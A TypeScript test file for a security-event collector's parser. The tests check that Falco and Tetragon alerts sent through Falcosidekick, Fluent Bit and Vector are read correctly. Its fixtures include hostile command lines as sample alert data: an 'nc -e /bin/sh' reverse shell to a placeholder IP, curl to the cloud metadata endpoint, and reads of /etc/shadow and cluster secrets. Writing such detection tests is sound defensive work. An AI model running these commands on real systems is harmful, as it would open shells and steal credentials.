/**
 * The bodies sensors' forwarders actually send, through the real reader and adapters:
 *
 * - Falcosidekick's webhook output: one alert per POST, encoded by Go's json.Encoder (keys of
 *   output_fields sorted, <, > and & escaped as \u003c, \u003e, \u0026, time in RFC 3339 with
 *   trailing zeros trimmed, a newline at the end), with the uuid it adds and its customfields;
 *   gzip when its compression is on.
 * - Fluent Bit's `http` output with `format json_lines` and `compress gzip`: one record per line,
 *   the `date` key (json_date_key, epoch seconds as a double) first. Tailing Tetragon's export and
 *   Falco's log through a JSON parser with `Time_Key time` moves `time` into `date`, so the
 *   records carry no `time`; one pipeline delivers both sensors in one body.
 * - Vector's `http` sink with `encoding.codec = "json"`, `framing.method = "newline_delimited"` and
 *   `compression = "gzip"`: the parsed line merged into Vector's event, keys in sorted order, its
 *   own `file`, `host`, `message`, `source_type` and `timestamp` beside them.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { type NormalizedItem, normalizeEvents, type StreamFormat } from "./normalize";
import { readEvents } from "./read-events";

type Json = Record<string, unknown>;

/** The body as the server receives it, in chunks of `size` bytes. */
async function* chunked(body: Buffer, size = 1024): AsyncGenerator<Uint8Array> {
  for (let start = 0; start < body.length; start += size) yield body.subarray(start, start + size);
}

async function read(body: Buffer): Promise<{ events: Json[]; errors: NormalizedItem[]; formats: StreamFormat[] }> {
  const events: Json[] = [];
  const errors: NormalizedItem[] = [];
  const formats: StreamFormat[] = [];
  for await (const item of normalizeEvents(readEvents(chunked(body)), "auto", (format) => formats.push(format))) {
    if ("event" in item) events.push(item.event);
    else errors.push(item);
  }
  return { events, errors, formats };
}

/** Go's encoding/json: HTML-sensitive characters escaped (Falcosidekick does not turn that off). */
function goJson(value: unknown): string {
  return JSON.stringify(value).replaceAll("<", "\\u003c").replaceAll(">", "\\u003e").replaceAll("&", "\\u0026");
}

function sortedKeys(value: Json): Json {
  return Object.fromEntries(Object.entries(value).sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0)));
}

describe("Falcosidekick webhook output", () => {
  // The field order of Falcosidekick's FalcoPayload struct; output_fields is a Go map, so its keys come sorted.
  const payload = {
    uuid: "1b8c4b7e-5b0e-4a59-9a0c-4f1e8c3d2a10",
    output:
      "09:31:25.354008000: Critical Cluster secret accessed (verb=list user=system:serviceaccount:shop:web-frontend resource=secrets ns=prod name=<NA> uri=/api/v1/namespaces/prod/secrets?limit=500&watch=false)",
    priority: "Critical",
    rule: "K8s Secret Listed From A Pod",
    // Falco wrote 09:31:25.354008000Z; Go's RFC 3339 drops the trailing zeros.
    time: "2026-11-30T09:31:25.354008Z",
    output_fields: sortedKeys({
      "ka.verb": "list",
      "ka.user.name": "system:serviceaccount:shop:web-frontend",
      "ka.target.resource": "secrets",
      "ka.target.namespace": "prod",
      "ka.target.name": null,
      "ka.uri": "/api/v1/namespaces/prod/secrets?limit=500&watch=false",
      "evt.time": 1796031085354008000,
      // A Falcosidekick customfield (customfields: "environment:production").
      environment: "production",
    }),
    source: "k8s_audit",
    tags: ["k8s", "secrets"],
    hostname: "falco-7x2kq",
  };
  const body = Buffer.from(`${goJson(payload)}\n`);

  it("reads the single alert of a POST, escapes and all", async () => {
    expect(body.toString()).toContain("name=\\u003cNA\\u003e");
    const { events, errors, formats } = await read(body);
    expect(errors).toEqual([]);
    expect(formats).toEqual(["falco"]);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      "@timestamp": "2026-11-30T09:31:25.354008Z",
      event: { kind: "alert", module: "falco", provider: "k8s_audit", action: "list", severity: 5 },
      rule: { name: "K8s Secret Listed From A Pod" },
      falco: { priority: "Critical", uuid: payload.uuid, output_fields: { environment: "production" } },
      message: payload.output,
      url: { original: "/api/v1/namespaces/prod/secrets?limit=500&watch=false" },
      orchestrator: { namespace: "prod", resource: { type: "secret" } },
      host: { name: "falco-7x2kq" },
    });
  });

  it("reads it gzipped, as Falcosidekick sends it with compression on", async () => {
    const { events, errors } = await read(gzipSync(body));
    expect(errors).toEqual([]);
    expect(events[0]).toMatchObject({ rule: { name: "K8s Secret Listed From A Pod" } });
  });

  it('reads its test alert (POST /test) as an alert of rule "Test rule"', async () => {
    const test = {
      uuid: "0c3a3f9e-6a8e-4a52-9d5e-2d1f0b7c9e44",
      output: "This is a test from falcosidekick",
      priority: "Debug",
      rule: "Test rule",
      time: "2026-11-30T09:40:00Z",
      output_fields: { "proc.name": "falcosidekick", "user.name": "falcosidekick" },
      source: "internal",
      tags: ["example", "test"],
      hostname: "falcosidekick",
    };
    const { events, errors } = await read(Buffer.from(`${goJson(test)}\n`));
    expect(errors).toEqual([]);
    expect(events[0]).toMatchObject({ event: { kind: "alert", severity: 0 }, rule: { name: "Test rule" } });
  });
});

describe("Fluent Bit http output (json_lines, gzip)", () => {
  // Records as Fluent Bit holds them after its JSON parser took `time` out (Time_Key time, Time_Keep off).
  const tetragonExec = {
    process_exec: {
      process: {
        exec_id: "a2luZC1jb250cm9sLXBsYW5lOjU3NjIyNDQ1MzcyMjoyMjI1OA==",
        pid: 22258,
        uid: 0,
        cwd: "/usr/src/app",
        binary: "/usr/bin/nc",
        arguments: "-e /bin/sh 203.0.113.7 4444",
        flags: "execve",
        start_time: "2026-11-30T09:20:01.861223004Z",
        pod: {
          namespace: "tenant-jobs",
          name: "crawler-556db57cd7-tkvfd",
          container: { id: "containerd://551e161c47d8ff0eb665438a7bcd5b4e", name: "crawler", pid: 12 },
        },
        parent_exec_id: "a2luZC1jb250cm9sLXBsYW5lOjU3NjIyMzEyMjQ1MToyMjI1OA==",
      },
      parent: { exec_id: "a2luZC1jb250cm9sLXBsYW5lOjU3NjIyMzEyMjQ1MToyMjI1OA==", pid: 22250, binary: "/bin/sh" },
    },
    node_name: "kind-control-plane",
  };
  const tetragonConnect = {
    process_connect: {
      process: tetragonExec.process_exec.process,
      source_ip: "10.0.0.164",
      source_port: 49998,
      destination_ip: "203.0.113.7",
      destination_port: 4444,
      protocol: "TCP",
    },
    node_name: "kind-control-plane",
  };
  const falcoShell = {
    hostname: "kind-control-plane",
    output:
      "09:20:01.902114882: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root process=sh)",
    output_fields: {
      "container.id": "551e161c47d8",
      "evt.type": "execve",
      "proc.name": "sh",
      "proc.pname": "nc",
      "proc.tty": 34816,
      "user.name": "root",
    },
    priority: "Notice",
    rule: "Terminal shell in container",
    source: "syscall",
    tags: ["container", "shell"],
  };
  // json_date_key date, json_date_format double: the record's time in epoch seconds, first.
  const line = (date: number, record: Json) => JSON.stringify({ date, ...record });
  const body = gzipSync(
    Buffer.from(
      `${[
        line(1796030401.861223, tetragonExec),
        line(1796030401.902115, falcoShell),
        line(1796030402.021, tetragonConnect),
      ].join("\n")}\n`,
    ),
  );

  it("reads Tetragon and Falco records of one pipeline from one gzipped body, with their times from date", async () => {
    const { events, errors, formats } = await read(body);
    expect(errors).toEqual([]);
    expect(formats).toEqual(["tetragon", "mixed"]);
    expect(events.map((event) => event["@timestamp"])).toEqual([
      "2026-11-30T09:20:01.861Z",
      "2026-11-30T09:20:01.902Z",
      "2026-11-30T09:20:02.021Z",
    ]);
    expect(events[0]).toMatchObject({
      event: { module: "tetragon", action: "exec" },
      tetragon: { time_source: "date" },
      process: { name: "nc" },
    });
    expect(events[1]).toMatchObject({
      event: { module: "falco", kind: "alert" },
      rule: { name: "Terminal shell in container" },
    });
    expect(events[2]).toMatchObject({
      event: { category: ["network"], action: "connection_attempted" },
      destination: { ip: "203.0.113.7", port: 4444 },
      network: { transport: "tcp" },
    });
  });
});

describe("Vector http sink (ndjson, gzip)", () => {
  // `. |= parse_json!(.message)` keeps Vector's own fields; its JSON encoder writes keys in sorted order.
  const falcoLine = {
    hostname: "ip-10-0-12-34",
    output:
      "2026-11-30T09:21:20.341081180+0000: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow)",
    output_fields: {
      "container.id": "3f1c2b9a7d6e",
      "evt.time.iso8601": 1796030480341081000,
      "evt.type": "openat",
      "fd.name": "/etc/shadow",
      "proc.name": "cat",
    },
    priority: "Warning",
    rule: "Read sensitive file untrusted",
    source: "syscall",
    tags: ["T1555", "container", "filesystem"],
    time: "2026-11-30T09:21:20.341081180Z",
  };
  const event = sortedKeys({
    ...falcoLine,
    file: "/var/log/falco/events.log",
    host: "vector-agent-4kq9z",
    message: JSON.stringify(falcoLine),
    source_type: "file",
    timestamp: "2026-11-30T09:21:20.512337914Z",
  });
  const metrics = sortedKeys({
    hostname: "ip-10-0-12-34",
    output: "Falco metrics snapshot",
    output_fields: { "evt.source": "syscall", "falco.num_evts": 537963, "falco.version": "0.39.0" },
    priority: "Informational",
    rule: "Falco internal: metrics snapshot",
    source: "internal",
    time: "2026-11-30T09:22:20.545718604Z",
    file: "/var/log/falco/events.log",
    host: "vector-agent-4kq9z",
    source_type: "file",
    timestamp: "2026-11-30T09:22:20.601000000Z",
  });

  it("reads the batch, keeps Falco's own time, and counts the metrics snapshot once", async () => {
    const body = gzipSync(
      Buffer.from(`${JSON.stringify(event)}\n${JSON.stringify(metrics)}\n${JSON.stringify(event)}\n`),
    );
    const { events, errors, formats } = await read(body);
    expect(formats).toEqual(["falco"]);
    expect(events).toHaveLength(2);
    expect(events[0]).toMatchObject({
      "@timestamp": "2026-11-30T09:21:20.341081180Z",
      rule: { name: "Read sensitive file untrusted" },
      file: { path: "/etc/shadow" },
      event: { severity: 3 },
    });
    expect(errors).toEqual([
      {
        line: 2,
        error:
          "not an event: 1 Falco metrics snapshot (line 2) skipped; Keelwatch stores events and alerts, not a sensor's own metrics",
        notEvent: { kind: "Falco metrics snapshot", count: 1 },
      },
    ]);
  });
});

describe("Vector http sink with Tetragon's export", () => {
  it("takes Vector's timestamp when the record lost Tetragon's time", async () => {
    const record = sortedKeys({
      process_exec: {
        process: {
          exec_id: "e1",
          pid: 7,
          binary: "/usr/bin/curl",
          arguments: "http://169.254.169.254/",
          start_time: "2026-11-30T09:00:00Z",
        },
      },
      node_name: "node-1",
      host: "vector-agent-4kq9z",
      source_type: "file",
      timestamp: "2026-11-30T09:30:00.250000000Z",
    });
    const { events, errors } = await read(gzipSync(Buffer.from(`${JSON.stringify(record)}\n`)));
    expect(errors).toEqual([]);
    expect(events[0]).toMatchObject({
      "@timestamp": "2026-11-30T09:30:00.250000000Z",
      tetragon: { time_source: "timestamp" },
      process: { name: "curl" },
    });
  });
});

describe("the recipe fixtures in e2e/fixtures/sensors", () => {
  const sensors = path.join(import.meta.dirname, "../../e2e/fixtures/sensors");

  it("falcosidekick-webhook.ndjson: Falcosidekick's body for one alert, read as one Falco alert", async () => {
    const body = readFileSync(path.join(sensors, "falcosidekick-webhook.ndjson"));
    expect(body.toString().endsWith("}\n")).toBe(true);
    const { events, errors, formats } = await read(body);
    expect({ errors, formats, count: events.length }).toEqual({ errors: [], formats: ["falco"], count: 1 });
    expect(events[0]).toMatchObject({ event: { kind: "alert" }, rule: { name: "Terminal shell in container" } });
  });

  it("fluent-bit-json-lines.ndjson: Tetragon and Falco records of one pipeline, gzipped, all read", async () => {
    const text = readFileSync(path.join(sensors, "fluent-bit-json-lines.ndjson"), "utf8");
    for (const line of text.trim().split("\n")) expect(line.startsWith('{"date":')).toBe(true);
    const { events, errors, formats } = await read(gzipSync(Buffer.from(text)));
    expect({ errors, formats, count: events.length }).toEqual({ errors: [], formats: ["tetragon", "mixed"], count: 5 });
    expect(events.map((event) => (event.event as { kind: string }).kind)).toEqual([
      "event",
      "alert",
      "alert",
      "alert",
      "event",
    ]);
  });
});
